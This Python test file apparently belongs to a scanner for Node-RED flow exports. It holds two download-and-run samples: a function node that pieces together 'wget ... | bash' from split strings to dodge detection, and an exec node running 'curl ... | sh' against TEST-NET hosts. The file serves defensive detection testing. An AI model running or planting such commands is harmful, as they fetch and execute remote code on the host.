"""Node-RED flow exports: a ``function`` node's JavaScript, an ``exec`` node's command, and an
``exec`` node that appends the message a ``function`` node wired before it built (through nodes that
pass the message on). Hosts are TEST-NET; nothing runs."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors


def flow(*nodes: dict[str, object]) -> str:
    return "[\n" + ",\n".join("  " + json.dumps(node) for node in nodes) + "\n]\n"


def test_a_command_assembled_in_a_function_and_run_by_an_exec_node_after_a_delay(tmp_path: Path) -> None:
    code = (
        "var parts = ['wg', 'et -qO- ', 'http://', [203, 0, 113, 77].join('.'), '/n/agent'];\n"
        "msg.payload = parts.join('') + ' | ba' + 'sh';\n"
        "return msg;"
    )
    text = flow(
        {"id": "a1", "type": "inject", "once": True, "wires": [["a2"]]},
        {"id": "a2", "type": "function", "name": "prep", "func": code, "outputs": 1, "wires": [["a3"]]},
        {"id": "a3", "type": "delay", "timeout": "2", "wires": [["a4"]]},
        {"id": "a4", "type": "exec", "command": "", "addpay": True, "wires": [[], [], []]},
    )
    errors = scan_errors(tmp_path, {"flows/garage.json": text})
    assert ("DOWNLOAD_AND_RUN", "flows/garage.json", 3) in errors


def test_an_exec_node_with_its_own_download_run_in_an_admin_api_export(tmp_path: Path) -> None:
    nodes = [
        {"id": "b1", "type": "inject", "once": True, "wires": [["b2"]]},
        {"id": "b2", "type": "exec", "command": "curl -s http://192.0.2.90/p.sh | sh", "addpay": "", "wires": [[]]},
    ]
    text = json.dumps({"rev": "1", "flows": nodes}, indent=1)
    assert any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in scan_errors(tmp_path, {"assets/deploy.json": text}))


def test_status_commands_and_a_function_that_only_formats_a_message_stay_quiet(tmp_path: Path) -> None:
    text = flow(
        {"id": "c1", "type": "inject", "repeat": "60", "wires": [["c2"]]},
        {"id": "c2", "type": "function", "func": "msg.payload = 'mosquitto';\nreturn msg;", "wires": [["c3"]]},
        {"id": "c3", "type": "exec", "command": "systemctl is-active", "addpay": "payload", "wires": [["c4"], [], []]},
        {"id": "c4", "type": "function", "func": "msg.payload = {up: msg.payload.trim() === 'active'};\nreturn msg;",
         "wires": [[]]},
    )  # fmt: skip
    assert not scan_errors(tmp_path, {"assets/health.json": text})
